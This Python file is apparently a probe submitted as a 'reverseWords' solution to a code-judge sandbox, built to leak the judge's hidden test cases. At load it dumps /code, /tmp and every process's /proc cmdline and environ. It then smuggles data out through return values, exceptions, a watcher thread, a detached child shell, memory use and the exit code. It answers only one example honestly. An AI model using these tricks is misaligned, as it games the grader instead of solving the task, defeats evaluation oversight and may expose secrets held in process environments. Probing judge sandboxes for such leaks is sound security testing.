# Tries every way to get a function-mode run's hidden tests out to the candidate: what /code, /tmp
# and /proc hold at load time, the value and the error of public cases, a thread and a child
# process that print what comes later, and the exit code, time and memory of the run.
import os
import subprocess
import threading
import time

seen = []


def read(path, limit):
    try:
        with open(path, "rb") as f:
            return f.read(limit).replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError as e:
        return "<%s>" % e.strerror


def listing(full):
    parts = []
    for d in ["/code", "/tmp"]:
        for name in sorted(os.listdir(d)):
            path = os.path.join(d, name)
            source = d == "/code" and name.startswith(("main.", "Main.", "solution.", "Solution.", ".coderoom-"))
            if os.path.isfile(path) and os.path.getsize(path) > 0 and not source:
                parts.append("%s: %s" % (path, read(path, 1500 if full else 300)))
            else:
                parts.append(path)
    if full:
        for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
            parts.append("/proc/%s: %s | %s" % (pid, read("/proc/%s/cmdline" % pid, 300), read("/proc/%s/environ" % pid, 300)))
    return "; ".join(parts)


def watch():
    count = 0
    while True:
        if len(seen) != count:
            count = len(seen)
            print("thread saw %d: %s" % (count, " | ".join(seen)), flush=True)
        time.sleep(0.02)


print("load dump " + listing(True), flush=True)
threading.Thread(target=watch, daemon=True).start()


def reverseWords(s):
    # The curated problem's third example is answered plainly and not counted: the calls below
    # number the two examples the attack plays with, then the hidden cases.
    if s == "coding  is   fun":
        return "fun is coding"
    seen.append(s)
    n = len(seen)
    if n == 1:
        return "case0 returns %s; seen %s" % (listing(False), " | ".join(seen))
    if n == 2:
        raise ValueError("case1 throws %s; seen %s" % (listing(False), " | ".join(seen)))
    if n == 3:
        print("hidden prints " + s, flush=True)
        subprocess.Popen(["/bin/sh", "-c", 'sleep 0.2; echo "child carries $0"', s])
        raise ValueError("hidden throws " + s)
    if n == 4:
        subprocess.call(["/bin/sh", "-c", "head -c 400000000 /dev/zero | tail -n 1 > /dev/null"])
        time.sleep(1.5)
        print("hidden exits " + s, flush=True)
        os._exit(42)
    return " ".join(reversed(s.split()))
